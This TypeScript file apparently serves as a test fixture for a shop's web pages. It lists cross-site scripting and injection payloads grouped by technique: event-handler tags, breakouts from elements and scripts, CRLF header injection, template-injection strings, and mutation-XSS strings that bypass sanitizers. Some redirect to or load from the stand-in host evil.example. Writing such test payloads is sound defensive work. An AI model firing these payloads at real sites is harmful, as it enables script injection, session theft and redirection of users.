/**
 * Texts of an attacker who wants the shop's pages to run them. Each calls `pwned`, and each element that it would
 * create has `data-pwn`. The texts of one list work in this order on one page: none hides the next ones. The first is short enough for a name.
 */
export const HOSTILE_TEXTS = {
  'with plain markup': [
    '<img data-pwn src=x onerror=pwned()>',
    '<script data-pwn>pwned()</script>',
    '<svg data-pwn onload=pwned()></svg>',
    '"><img data-pwn src=x onerror=pwned()>',
    '" autofocus onfocus=pwned() data-pwn="',
    "' onmouseover='pwned()' data-pwn='",
    '<a data-pwn href="javascript:pwned()">x</a>',
    '<a data-pwn href="java\tscript:pwned()">x</a>',
    '<details data-pwn open ontoggle=pwned()>x</details>',
    '<iframe data-pwn srcdoc="<script>parent.pwned()</script>"></iframe>',
    '<form data-pwn action=//evil.example/><button>x</button></form>',
    '<object data-pwn data="data:text/html,<script>pwned()</script>"></object>',
    '<base data-pwn href=//evil.example/><link data-pwn rel=stylesheet href=//evil.example/x.css>',
    '<meta data-pwn http-equiv=refresh content="0;url=//evil.example/">',
    '<p data-pwn style="position:fixed;inset:0">x</p>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what an attacker would write
    "{{constructor.constructor('pwned()')()}} ${pwned()} <%= pwned() %> #{pwned()}",
    '&lt;img data-pwn src=x onerror=pwned()&gt; &#60;script&#62;pwned()&#60;/script&#62;',
    '\\u003cscript\\u003epwned()\\u003c/script\\u003e \\x3cscript\\x3epwned()\\x3c/script\\x3e',
    'line\u2028end\u2029pwned() \u202eback\u202c \ufeff \u0300',
    'javascript:pwned()',
  ],
  'that breaks out of its element or script': [
    '</script><script data-pwn>pwned()</script>',
    '</title><img data-pwn src=x onerror=pwned()>',
    '</textarea></style></noscript></select></option><img data-pwn src=x onerror=pwned()>',
    '\'];pwned();// "];pwned();// `;pwned();//',
    ']]><script data-pwn>pwned()</script>',
    '--><script data-pwn>pwned()</script><!--x-->',
    '\r\nx-injected: 1\r\n\r\n<script data-pwn>pwned()</script>',
  ],
  'with a script in a comment': ['<!--<script data-pwn>', '</script>--!><img data-pwn src=x onerror=pwned()>'],
  'with elements that are never closed': ['<plaintext data-pwn>', '<textarea data-pwn>', '<svg><style><!--'],
  'whose markup changes when it is parsed twice': [
    '<math><mi><style><img data-pwn></math>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-pwn src=x onerror=pwned()&gt;">',
    '<svg></p><style><a id="</style><img data-pwn src=x onerror=pwned()>">',
    '<noscript><p title="</noscript><img data-pwn src=x onerror=pwned()>">',
    '<form><math><mtext></form><form><mglyph><style></math><img data-pwn src onerror=pwned()>',
    '<xmp><p title="</xmp><img data-pwn src=x onerror=pwned()>">',
  ],
} as const satisfies Record<string, readonly [string, ...string[]]>;
